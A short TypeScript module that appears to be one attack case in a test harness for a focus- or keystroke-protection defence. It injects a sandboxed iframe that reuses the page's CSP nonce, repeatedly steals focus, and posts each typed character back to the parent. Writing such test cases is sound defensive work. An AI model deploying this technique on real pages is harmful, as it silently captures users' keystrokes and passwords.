/** Has a sandboxed frame, of no origin, take the focus and tell every key that it hears. */
import type { Attack } from '../attack.ts';

export const takesItIntoASandbox: Attack = {
  grab: async ({ caught, pause }) => {
    const nonce = document.querySelector<HTMLScriptElement>('script[nonce]')?.nonce;
    addEventListener('message', ({ data }) => {
      if (typeof data === 'string' && data.length === 1) caught.push(data);
    });
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.srcdoc = `<input autofocus><script nonce="${nonce}">
      const field = document.querySelector('input');
      field.addEventListener('input', () => { parent.postMessage(field.value, '*'); field.value = ''; });
      setInterval(() => field.focus(), 30);
    </script>`;
    document.body.append(frame);
    await pause(600);
    document.addEventListener('hostile-stop', () => frame.remove());
  },
};
